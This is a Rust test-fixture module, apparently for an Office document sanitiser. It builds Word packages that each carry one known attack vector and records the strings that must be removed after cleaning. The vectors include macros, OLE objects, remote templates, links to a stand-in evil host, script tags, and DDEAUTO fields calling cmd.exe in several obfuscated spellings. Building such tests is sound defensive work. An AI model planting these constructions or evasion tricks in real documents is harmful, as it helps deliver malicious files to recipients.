//! Word: a document builder and a planter for each danger a document may hold.

use super::package::{AV, KEPT, Package, png};
use crate::{Planted, Planter};

pub(super) const NS: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\" xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\" xmlns:w15=\"http://schemas.microsoft.com/office/word/2012/wordml\" xmlns:wp15=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" xmlns:am3d=\"http://schemas.microsoft.com/office/drawing/2017/model3d\" xmlns:asvg=\"http://schemas.microsoft.com/office/drawing/2016/SVG/main\" xmlns:wpi=\"http://schemas.microsoft.com/office/word/2010/wordprocessingInk\" xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\"";

pub(super) const DOC: &str = "word/document.xml";

/// A document with this body, behind a paragraph that must survive.
pub(super) fn document(body: &str) -> Package {
    let styles = format!(
        "<w:styles {NS}><w:docDefaults/><w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"a\"><w:name w:val=\"Normal\"/></w:style></w:styles>"
    );
    Package::default()
        .rel("", "rId1", "officeDocument", DOC)
        .part(
            DOC,
            &format!("{AV}wordprocessingml.document.main+xml"),
            format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<w:document {NS}><w:body><w:p><w:r><w:t>{KEPT}</w:t></w:r></w:p>{body}<w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/><w:textDirection w:val=\"tbRl\"/></w:sectPr></w:body></w:document>"),
        )
        .rel(DOC, "rIdS", "styles", "styles.xml")
        .part("word/styles.xml", &format!("{AV}wordprocessingml.styles+xml"), styles)
}

pub(super) fn with_settings(body: &str, settings: &str) -> Package {
    document(body).rel(DOC, "rIdSet", "settings", "settings.xml").part(
        "word/settings.xml",
        &format!("{AV}wordprocessingml.settings+xml"),
        format!("<w:settings {NS}>{settings}<w:defaultTabStop w:val=\"840\"/></w:settings>"),
    )
}

fn planted(name: &str, package: &Package, gone: &[&str]) -> Planted {
    Planted {
        name: name.to_owned(),
        bytes: package.zip(),
        gone: gone.iter().map(|g| g.as_bytes().to_vec()).collect(),
        kept: vec![KEPT.as_bytes().to_vec()],
    }
}

/// A complex field: instruction in these pieces, and its result.
pub(super) fn field(pieces: &[&str], result: &str) -> String {
    let instruction: String =
        pieces.iter().map(|p| format!("<w:r><w:instrText xml:space=\"preserve\">{p}</w:instrText></w:r>")).collect();
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    format!("{}{instruction}{}<w:r><w:t>{result}</w:t></w:r>{}", mark("begin"), mark("separate"), mark("end"))
}

pub(super) fn drawing(inside: &str) -> String {
    format!(
        "<w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"360000\" cy=\"360000\"/><wp:docPr id=\"1\" name=\"図1\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:nvPicPr><pic:cNvPr id=\"1\" name=\"図1\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>{inside}<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
}

const OBJECT: &str = "<w:p><w:r><w:object w:dxaOrig=\"1440\" w:dyaOrig=\"1440\"><v:shape id=\"s1\" style=\"width:72pt;height:72pt\" o:ole=\"\"><v:imagedata r:id=\"rIdPic\"/></v:shape><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rIdBad\"/></w:object></w:r></w:p>";

macro_rules! planter {
    ($rule:literal, $shape:literal, $name:literal, $package:expr, [$($gone:expr),*]) => {
        Planter { rule: $rule, shape: $shape, plant: || planted($name, &$package, &[$($gone),*]) }
    };
}

/// Planters for everything but fields.
pub(super) fn planters() -> Vec<Planter> {
    vec![
        planter!("office.macro", "plain", "macro.docm", document("")
            .part(DOC, "application/vnd.ms-word.document.macroEnabled.main+xml", format!("<w:document {NS}><w:body><w:p><w:r><w:t>{KEPT}</w:t></w:r></w:p></w:body></w:document>"))
            .extension("bin", "application/vnd.ms-office.vbaProject")
            .rel(DOC, "rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
            .part("word/vbaProject.bin", "", "Attribute VB_Name = \"ThisDocument\" Shell calc"),
            ["vbaProject", "Shell calc", "macroEnabled"]),
        planter!("office.macro", "obfuscated: another name, other case", "hidden.docx", document("")
            .extension("png2", "image/png")
            .rel(DOC, "rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "../WORD/Media/a.png2")
            .part("word/media/a.png2", "", "Attribute VB_Name Shell calc"),
            ["vbaProject", "Shell calc", "png2"]),
        planter!("office.activex", "plain", "activex.docx", document("<w:p><w:r><w:pict><v:shape id=\"c1\"><v:imagedata r:id=\"rIdPic\"/></v:shape><w:control r:id=\"rIdBad\" w:name=\"EvilControl\" w:shapeid=\"c1\"/></w:pict></w:r></w:p>")
            .rel(DOC, "rIdPic", "image", "media/image1.png").part("word/media/image1.png", "", png())
            .rel(DOC, "rIdBad", "control", "activeX/activeX1.xml")
            .part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{D27CDB6E}\"/>"),
            ["EvilControl", "D27CDB6E", "activeX"]),
        planter!("office.ole-object", "plain", "ole.docx", document(OBJECT)
            .rel(DOC, "rIdPic", "image", "media/image1.png").part("word/media/image1.png", "", png())
            .rel(DOC, "rIdBad", "oleObject", "embeddings/oleObject1.bin").extension("bin", "application/vnd.openxmlformats-officedocument.oleObject")
            .part("word/embeddings/oleObject1.bin", "", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 evil package"),
            ["oleObject", "evil package", "OLEObject", "ProgID"]),
        planter!("office.ole-object", "obfuscated: other prefixes", "ole2.docx", document("<w:p><w:r><x:object xmlns:x=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><q:OLEObject xmlns:q=\"urn:schemas-microsoft-com:office:office\" xmlns:z=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" Type=\"Link\" z:id=\"rIdBad\"/></x:object></w:r></w:p>")
            .external(DOC, "rIdBad", "oleObject", "http://evil.example/a.rtf"),
            ["evil.example", "OLEObject"]),
        planter!("office.embedded-package", "plain", "package.docx", document("")
            .rel(DOC, "rIdBad", "package", "embeddings/Book1.xlsx").extension("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
            .part("word/embeddings/Book1.xlsx", "", "PK hidden book"),
            ["hidden book", "embeddings"]),
        planter!("office.external-reference", "plain: linked picture", "beacon.docx", document(&drawing("<a:blip r:link=\"rIdBad\"/>"))
            .external(DOC, "rIdBad", "image", "http://evil.example/beacon.png"),
            ["evil.example", "r:link"]),
        planter!("office.external-reference", "obfuscated: no target mode, share in disguise", "share.docx", document(&drawing("<a:blip r:embed=\"rIdBad\"/>"))
            .rel(DOC, "rIdBad", "image", "\\\\evil.example\\share\\a.png"),
            ["evil.example"]),
        planter!("office.link", "plain", "link.docx", document("<w:p><w:hyperlink r:id=\"rIdBad\"><w:r><w:t>表示文字</w:t></w:r></w:hyperlink></w:p>")
            .external(DOC, "rIdBad", "hyperlink", "file:///C:/Windows/System32/evil.exe"),
            ["evil.exe"]),
        planter!("office.link", "obfuscated: encoded scheme", "link2.docx", document("<w:p><w:hyperlink r:id=\"rIdBad\"><w:r><w:t>表示文字</w:t></w:r></w:hyperlink></w:p>")
            .external(DOC, "rIdBad", "hyperlink", " java%73cript:evil()"),
            ["evil()"]),
        planter!("office.attached-template", "plain", "template.docx", with_settings("", "<w:attachedTemplate r:id=\"rIdT\"/>")
            .external("word/settings.xml", "rIdT", "attachedTemplate", "http://evil.example/t.dotm"),
            ["evil.example", "attachedTemplate"]),
        planter!("office.attached-template", "obfuscated: typed as a hyperlink", "template2.docx", with_settings("", "<w:attachedTemplate r:id=\"rIdT\"/>")
            .external("word/settings.xml", "rIdT", "hyperlink", "http://evil.example/t.dotm"),
            ["evil.example", "attachedTemplate"]),
        planter!("office.alt-chunk", "plain", "chunk.docx", document("<w:altChunk r:id=\"rIdC\"/>")
            .rel(DOC, "rIdC", "aFChunk", "afchunk.mht").part("word/afchunk.mht", "message/rfc822", "<script>evil</script>"),
            ["altChunk", "afchunk", "<script>"]),
        planter!("office.sub-document", "plain", "sub.docx", document("<w:subDoc r:id=\"rIdC\"/>").external(DOC, "rIdC", "subDocument", "\\\\evil.example\\a.docx"), ["evil.example", "subDoc"]),
        planter!("office.frame", "plain", "frame.docx", document("")
            .rel(DOC, "rIdW", "webSettings", "webSettings.xml")
            .part("word/webSettings.xml", &format!("{AV}wordprocessingml.webSettings+xml"), format!("<w:webSettings {NS}><w:frameset><w:frame><w:sourceFileName r:id=\"rIdF\"/></w:frame></w:frameset><w:optimizeForBrowser/></w:webSettings>"))
            .external("word/webSettings.xml", "rIdF", "frame", "http://evil.example/f.htm"),
            ["evil.example", "frameset"]),
        planter!("office.mail-merge", "plain", "merge.docx", with_settings("", "<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:dataType w:val=\"native\"/><w:connectString w:val=\"Provider=evil\"/><w:query w:val=\"SELECT evil\"/><w:dataSource r:id=\"rIdM\"/></w:mailMerge>")
            .external("word/settings.xml", "rIdM", "mailMergeSource", "file:///C:/evil.mdb"),
            ["Provider=evil", "SELECT evil", "evil.mdb"]),
        planter!("office.form-macro", "plain", "form.docx", document("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:name w:val=\"a\"/><w:entryMacro w:val=\"EvilMacro\"/><w:textInput/></w:ffData></w:fldChar></w:r><w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>入力</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"),
            ["EvilMacro", "entryMacro"]),
        planter!("office.custom-ui", "plain", "ribbon.docx", document("")
            .rel("", "rIdU", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml")
            .part("customUI/customUI14.xml", "", "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"EvilLoad\"/>"),
            ["customUI", "EvilLoad"]),
        planter!("office.web-extension", "plain", "addin.docx", document("")
            .rel("", "rIdU", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")
            .part("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\" url=\"https://evil.example\"/>"),
            ["taskpanes", "evil.example"]),
        planter!("office.web-extension", "obfuscated: inline in a choice", "addin2.docx", document("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"we\"><w:drawing><we:webextension id=\"{EVIL-ID}\"/></w:drawing></mc:Choice><mc:Fallback><w:t>代替</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>"),
            ["EVIL-ID", "webextension"]),
        planter!("office.ink", "plain", "ink.docx", document("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"wp15\"><w14:contentPart r:id=\"rIdI\"/></mc:Choice><mc:Choice Requires=\"w14\"><w14:contentPart r:id=\"rIdI\"/></mc:Choice><mc:Fallback><w:t>代替</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>")
            .rel(DOC, "rIdI", "customXml", "ink/ink1.xml").part("word/ink/ink1.xml", "application/inkml+xml", "<inkml:ink xmlns:inkml=\"http://www.w3.org/2003/InkML\">evil ink</inkml:ink>"),
            ["contentPart", "evil ink"]),
        planter!("office.model-3d", "plain", "model.docx", document("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"am3d\"><w:drawing><am3d:model3d r:embed=\"rIdG\"/></w:drawing></mc:Choice><mc:Fallback><w:t>代替</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>")
            .rel(DOC, "rIdG", "http://schemas.microsoft.com/office/2017/06/relationships/model3d", "media/model3d1.glb").part("word/media/model3d1.glb", "model/gltf-binary", "glTF evil"),
            ["model3d", "glTF evil"]),
        planter!("office.live-content", "plain", "video.docx", document(&drawing("<a:blip r:embed=\"rIdPic\"><a:extLst><a:ext uri=\"{C809E66F}\"><wp15:webVideoPr embeddedHtml=\"&lt;iframe src=evil&gt;\" h=\"1\" w=\"1\"/></a:ext></a:extLst></a:blip>"))
            .rel(DOC, "rIdPic", "image", "media/image1.png").part("word/media/image1.png", "", png()),
            ["webVideoPr", "iframe"]),
        planter!("office.unknown-content", "plain", "unknown.docx", document("<w:p><w:r><zz:secret xmlns:zz=\"urn:nobody\" zz:payload=\"evil payload\">evil text</zz:secret></w:r></w:p>"), ["evil payload", "evil text", "urn:nobody"]),
        planter!("office.unknown-content", "obfuscated: under a familiar prefix", "unknown2.docx", document("<w:p><w:r xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:t xmlns:w=\"urn:nobody\">evil text</w:t></w:r></w:p>"), ["evil text", "urn:nobody"]),
        planter!("office.custom-xml", "plain", "mashup.docx", document("")
            .rel(DOC, "rIdX", "customXml", "../customXml/item1.xml").part("customXml/item1.xml", "", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">ZXZpbA==</DataMashup>")
            .rel("customXml/item1.xml", "rId1", "customXmlProps", "itemProps1.xml")
            .part("customXml/itemProps1.xml", "", "<ds:datastoreItem ds:itemID=\"{11111111-1111-1111-1111-111111111111}\" xmlns:ds=\"http://schemas.openxmlformats.org/officeDocument/2006/customXml\"/>"),
            ["DataMashup", "ZXZpbA=="]),
        planter!("office.media", "plain: film in a pict", "movie.docx", document("<w:p><w:r><w:pict><w:movie r:id=\"rIdM\"/></w:pict></w:r></w:p>").external(DOC, "rIdM", "video", "http://evil.example/a.avi"), ["evil.example", "w:movie"]),
        planter!("office.identity", "plain", "people.docx", document("")
            .rel(DOC, "rIdP", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml")
            .part("word/people.xml", &format!("{AV}wordprocessingml.people+xml"), format!("<w15:people {NS}><w15:person w15:author=\"山田\"><w15:presenceInfo w15:providerId=\"AD\" w15:userId=\"S::yamada@secret.lg.jp\"/></w15:person></w15:people>")),
            ["secret.lg.jp", "presenceInfo"]),
        planter!("office.vml", "plain", "vml.docx", document("<w:p><w:r><w:pict><v:shape id=\"s1\" href=\"http://evil.example/\" style=\"width:10pt;height:10pt\"><v:fill src=\"http://evil.example/f.png\" color2=\"red\"/></v:shape></w:pict></w:r></w:p>"), ["evil.example"]),
        planter!("office.font", "plain", "font.docx", document("")
            .rel(DOC, "rIdF", "fontTable", "fontTable.xml")
            .part("word/fontTable.xml", &format!("{AV}wordprocessingml.fontTable+xml"), format!("<w:fonts {NS}><w:font w:name=\"外字\"><w:embedRegular r:id=\"rId1\" w:fontKey=\"{{0}}\"/></w:font></w:fonts>"))
            .rel("word/fontTable.xml", "rId1", "font", "fonts/font1.odttf").part("word/fonts/font1.odttf", &format!("{AV}obfuscatedFont"), "evil font"),
            ["embedRegular", "evil font", "odttf"]),
        planter!("office.svg", "plain", "svg.docx", document(&drawing("<a:blip r:embed=\"rIdPic\"><a:extLst><a:ext uri=\"{96DAC541}\"><asvg:svgBlip r:embed=\"rIdV\"/></a:ext></a:extLst></a:blip>"))
            .rel(DOC, "rIdPic", "image", "media/image1.png").part("word/media/image1.png", "", png())
            .rel(DOC, "rIdV", "image", "media/image2.svg").part("word/media/image2.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>evil</script></svg>"),
            ["svgBlip", "<script>", "image2"]),
        planter!("office.smart-tag", "plain", "smart.docx", document("<w:p><w:smartTag w:uri=\"urn:evil\" w:element=\"place\"><w:r><w:t>残る地名</w:t></w:r></w:smartTag></w:p>"), ["urn:evil", "smartTag"]),
        planter!("office.hidden-text", "plain", "hidden.docx", document("<w:p w:rsidR=\"00EA1111\"><w:r><w:rPr><w:vanish/></w:rPr><w:t>見えない指示</w:t></w:r></w:p>"), ["00EA1111"]),
        planter!("office.metadata", "plain", "props.docx", document("")
            .rel("", "rIdP", "extended-properties", "docProps/app.xml")
            .part("docProps/app.xml", &format!("{AV}extended-properties+xml"), "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Company>市役所</Company><HyperlinkBase>\\\\evil.example\\</HyperlinkBase></Properties>")
            .rel("", "rIdQ", "custom-properties", "docProps/custom.xml").part("docProps/custom.xml", "", "<Properties>evil label</Properties>"),
            ["evil.example", "evil label"]),
        planter!("office.signature", "plain", "signed.docx", document("")
            .rel("", "rIdG", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs").part("_xmlsignatures/origin.sigs", "", "evil origin"),
            ["_xmlsignatures", "evil origin"]),
        planter!("office.thumbnail", "plain", "thumb.docx", document("")
            .rel("", "rIdG", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.emf").part("docProps/thumbnail.emf", "", "evil emf"),
            ["thumbnail", "evil emf"]),
        planter!("office.printer-settings", "plain", "printer.docx", document("")
            .rel(DOC, "rIdP", "printerSettings", "printerSettings1.bin").part("word/printerSettings1.bin", "", "evil devmode"),
            ["printerSettings", "evil devmode"]),
        planter!("office.unknown-part", "plain", "vendor.docx", document("")
            .rel(DOC, "rIdP", "http://vendor.example/relationships/script", "vendor.bin").part("word/vendor.bin", "", "evil vendor"),
            ["vendor", "evil vendor"]),
        Planter { rule: "office.surplus-bytes", shape: "plain: bytes behind the container", plant: || {
            let mut p = planted("tail.docx", &document(""), &["evil tail"]);
            p.bytes.extend_from_slice(b"\0\0evil tail");
            p
        } },
        planter!("office.dangling-reference", "plain", "dangling.docx", document("<w:p><w:r><w:pict><v:shape id=\"s1\"><v:imagedata r:id=\"rIdNowhere\"/></v:shape></w:pict></w:r></w:p>"), ["rIdNowhere"]),
        planter!("office.dangling-reference", "obfuscated: a link where a picture belongs", "confused.docx", document("<w:p><w:r><w:pict><v:shape id=\"s1\"><v:imagedata r:id=\"rIdBad\"/></v:shape></w:pict></w:r></w:p>").external(DOC, "rIdBad", "hyperlink", "http://evil.example/a.png"), ["evil.example"]),
        planter!("office.picture", "plain", "emf.docx", document(&drawing("<a:blip r:embed=\"rIdPic\"/>"))
            .rel(DOC, "rIdPic", "image", "media/image1.emf").part("word/media/image1.emf", "image/x-emf", "evil emf"),
            ["evil emf", "image/x-emf"]),
    ]
}

/// Planters for fields in all their spellings.
pub(super) fn field_planters() -> Vec<Planter> {
    vec![
        planter!(
            "office.field",
            "plain: DDE",
            "dde.docx",
            document(&format!("<w:p>{}</w:p>", field(&[" DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\" "], "結果"))),
            ["DDEAUTO", "cmd.exe"]
        ),
        planter!(
            "office.field",
            "obfuscated: split over runs",
            "split.docx",
            document(&format!("<w:p>{}</w:p>", field(&["D", "DE", "AUT", "O cmd.exe calc"], "結果"))),
            ["cmd.exe"]
        ),
        planter!(
            "office.field",
            "obfuscated: simple field",
            "simple.docx",
            document(
                "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \"><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>"
            ),
            ["evil.example", "INCLUDEPICTURE"]
        ),
        planter!(
            "office.field",
            "obfuscated: the keyword is computed",
            "quote.docx",
            document(&format!(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{}<w:r><w:instrText> cmd.exe calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
                field(&[" QUOTE 68 68 69 "], "DDE")
            )),
            ["cmd.exe"]
        ),
        planter!(
            "office.field",
            "obfuscated: no end",
            "open.docx",
            document(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE cmd.exe</w:instrText></w:r></w:p>"
            ),
            ["cmd.exe", "fldChar"]
        ),
        planter!(
            "office.field",
            "obfuscated: deleted by a tracked change",
            "tracked.docx",
            document(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:ins w:id=\"1\" w:author=\"a\"><w:r><w:instrText>PAGE</w:instrText></w:r></w:ins><w:del w:id=\"2\" w:author=\"a\"><w:r><w:delInstrText>DDE cmd.exe</w:delInstrText></w:r></w:del><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
            ),
            ["cmd.exe"]
        ),
        planter!(
            "office.field",
            "obfuscated: macro button keeps its words",
            "button.docx",
            document(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> MACROBUTTON EvilMacro ここを押す </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
            ),
            ["EvilMacro"]
        ),
        planter!(
            "office.field",
            "obfuscated: link in a field",
            "hyper.docx",
            document(&format!("<w:p>{}</w:p>", field(&[" HYPERLINK \"file://evil.example/x\" "], "結果"))),
            ["evil.example"]
        ),
    ]
}

/// A realistic report: vertical text, ruby, an EQ field, a table, a link, a picture, tracked changes, a content control.
pub(super) fn report() -> Vec<u8> {
    let body = format!(
        "<w:p><w:pPr><w:pStyle w:val=\"a\"/></w:pPr><w:r><w:rPr><w:rFonts w:eastAsia=\"ＭＳ 明朝\" w:hint=\"eastAsia\"/><w:eastAsianLayout w:id=\"1\" w:vert=\"1\"/></w:rPr><w:t>令和８年度　事業報告書</w:t></w:r></w:p>\
         <w:p><w:r><w:ruby><w:rubyPr><w:rubyAlign w:val=\"distributeSpace\"/><w:hps w:val=\"10\"/></w:rubyPr><w:rt><w:r><w:t>かつらぎ</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>葛󠄀城</w:t></w:r></w:rubyBase></w:ruby></w:r></w:p>\
         <w:p>{}{}</w:p>\
         <w:tbl><w:tblPr><w:tblW w:w=\"0\" w:type=\"auto\"/></w:tblPr><w:tblGrid><w:gridCol w:w=\"2000\"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:tcW w:w=\"2000\" w:type=\"dxa\"/><w:vMerge w:val=\"restart\"/></w:tcPr><w:p><w:r><w:t>項目</w:t></w:r></w:p></w:tc></w:tr></w:tbl>\
         <w:p><w:hyperlink r:id=\"rIdL\"><w:r><w:t>市のホームページ</w:t></w:r></w:hyperlink><w:ins w:id=\"7\" w:author=\"山田\"><w:r><w:t>追記</w:t></w:r></w:ins></w:p>\
         <w:sdt><w:sdtPr><w:alias w:val=\"会社\"/><w14:checkbox><w14:checked w14:val=\"1\"/></w14:checkbox></w:sdtPr><w:sdtContent><w:p><w:r><w:t>☒</w:t></w:r></w:p></w:sdtContent></w:sdt>{}",
        field(&[" EQ \\* jc2 \\* hps10 \\o\\ad(\\s\\up 9(よみ),漢字) "], "漢字"),
        field(&[" PAGE \\* MERGEFORMAT "], "1"),
        drawing("<a:blip r:embed=\"rIdPic\"/>")
    );
    with_settings(&body, "<w:noLineBreaksAfter w:lang=\"ja-JP\" w:val=\"（［\"/>")
        .external(DOC, "rIdL", "hyperlink", "https://www.city.example.lg.jp/")
        .rel(DOC, "rIdPic", "image", "media/image1.png")
        .part("word/media/image1.png", "", png())
        .rel("", "rIdC", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml")
        .part("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>報告書</dc:title><dc:creator>総務課</dc:creator></cp:coreProperties>")
        .zip()
}
